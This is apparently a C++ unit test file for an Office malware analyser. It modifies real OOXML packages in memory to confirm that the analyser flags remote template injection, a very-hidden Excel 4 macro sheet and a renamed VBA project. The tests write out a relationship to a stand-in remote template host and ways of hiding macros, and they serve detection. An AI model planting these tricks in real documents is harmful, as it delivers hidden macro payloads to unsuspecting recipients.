// SPDX-License-Identifier: Apache-2.0
// office_ooxml_test.cpp - OOXML tricks made from real corpus packages, rewritten in memory
//
// The corpus has no remote-template document, no hidden OOXML macro sheet and no
// renamed vbaProject part; each test takes a real package and changes only the part
// the trick is about (libarchive re-zips it in memory; nothing is written to disk).
#include "office_test_util.hpp"

#include <archive.h>
#include <archive_entry.h>

#include <utility>

using namespace office_test;

namespace {

using member_list = std::vector<std::pair<std::string, std::string>>;

member_list unzip(const std::string& in) {
    member_list members;
    archive* r = archive_read_new();
    archive_read_support_format_zip(r);
    EXPECT_EQ(archive_read_open_memory(r, in.data(), in.size()), ARCHIVE_OK);
    archive_entry* e = nullptr;
    while (archive_read_next_header(r, &e) == ARCHIVE_OK) {
        std::string data;
        char buf[8192];
        la_ssize_t n;
        while ((n = archive_read_data(r, buf, sizeof buf)) > 0) data.append(buf, static_cast<std::size_t>(n));
        members.emplace_back(archive_entry_pathname(e), std::move(data));
    }
    archive_read_free(r);
    return members;
}

std::string zip(const member_list& members) {
    std::size_t total = 65536;
    for (const auto& m : members) total += m.second.size() * 2 + 512;
    std::string out(total, '\0');
    std::size_t used = 0;
    archive* w = archive_write_new();
    archive_write_set_format_zip(w);
    archive_write_open_memory(w, out.data(), out.size(), &used);
    for (const auto& [name, data] : members) {
        archive_entry* en = archive_entry_new();
        archive_entry_set_pathname(en, name.c_str());
        archive_entry_set_size(en, static_cast<la_int64_t>(data.size()));
        archive_entry_set_filetype(en, AE_IFREG);
        archive_entry_set_perm(en, 0644);
        archive_write_header(w, en);
        archive_write_data(w, data.data(), data.size());
        archive_entry_free(en);
    }
    archive_write_close(w);
    archive_write_free(w);
    out.resize(used);
    return out;
}

std::string* find(member_list& m, const std::string& name) {
    for (auto& [n, d] : m)
        if (n == name) return &d;
    return nullptr;
}

}  // namespace

TEST(OfficeOoxml, RewrittenPackageStillReadsTheSame) {
    // guard for the helpers: an untouched re-zip gives the same findings as the original
    const auto orig = slurp(corpus() / "office/with-macros/poi/SimpleMacro.docm");
    const auto a = analyse_bytes("a.docm", orig);
    const auto b = analyse_bytes("b.docm", zip(unzip(orig)));
    EXPECT_EQ(a.ids(), b.ids());
    EXPECT_TRUE(b.has("OFFICE_VBA_MACRO"));
}

TEST(OfficeOoxml, RemoteAttachedTemplateIsTemplateInjection) {
    auto m = unzip(slurp(corpus() / "office/clean/python-docx/test.docx"));
    ASSERT_FALSE(m.empty());
    // 192.0.2.0/24 is TEST-NET-1: never reachable, and nothing here fetches it anyway.
    const std::string rels =
        R"(<?xml version="1.0" encoding="UTF-8" standalone="yes"?>)"
        R"(<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">)"
        R"(<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate")"
        R"( Target="http://192.0.2.1/invoice.dotm" TargetMode="External"/></Relationships>)";
    if (auto* r = find(m, "word/_rels/settings.xml.rels"))
        *r = rels;
    else
        m.emplace_back("word/_rels/settings.xml.rels", rels);
    const auto o = analyse_bytes("invoice.docx", zip(m));
    ASSERT_TRUE(o.recognised);
    EXPECT_TRUE(o.has("OFFICE_EXTERNAL_TEMPLATE")) << o.ids();
    EXPECT_FALSE(o.has("OFFICE_VBA_MACRO"));
    const auto& ext = o.rep.details["office"][0]["external"];
    ASSERT_EQ(ext.size(), 1u);
    EXPECT_EQ(ext[0]["type"], "attachedTemplate");
    EXPECT_EQ(ext[0]["target"], "http://192.0.2.1/invoice.dotm");
}

TEST(OfficeOoxml, VeryHiddenMacroSheetIsReported) {
    auto m = unzip(slurp(corpus() / "office/xlm/oletools/excel4_sample_macro.xlsm"));
    auto* wb = find(m, "xl/workbook.xml");
    ASSERT_NE(wb, nullptr);
    const std::string from = R"(<sheet name="Macro1" sheetId="2" r:id="rId1"/>)";
    const auto at = wb->find(from);
    ASSERT_NE(at, std::string::npos);
    const auto visible = analyse_bytes("a.xlsm", zip(m));
    EXPECT_TRUE(visible.has("OFFICE_XLM_MACRO"));
    EXPECT_FALSE(visible.has("OFFICE_XLM_HIDDEN_SHEET")) << visible.ids();
    wb->replace(at, from.size(), R"(<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId1"/>)");
    const auto hidden = analyse_bytes("a.xlsm", zip(m));
    EXPECT_TRUE(hidden.has("OFFICE_XLM_HIDDEN_SHEET")) << hidden.ids();
    EXPECT_NE(hidden.rep.details.dump().find("very hidden"), std::string::npos);
}

TEST(OfficeOoxml, RenamedVbaProjectIsStillFound) {
    auto m = unzip(slurp(corpus() / "office/with-macros/poi/SimpleMacro.docm"));
    bool moved = false;
    for (auto& [name, data] : m)
        if (name == "word/vbaProject.bin") {
            name = "customXml/item7.dat";
            moved = true;
        }
    ASSERT_TRUE(moved);
    const auto o = analyse_bytes("renamed.docm", zip(m));
    EXPECT_TRUE(o.has("OFFICE_VBA_MACRO")) << o.ids();
    bool nested = false;
    for (const auto& e : o.rep.details["office"])
        if (e["path"].get<std::string>().ends_with("customXml/item7.dat") && e.contains("vba")) nested = true;
    EXPECT_TRUE(nested);
}
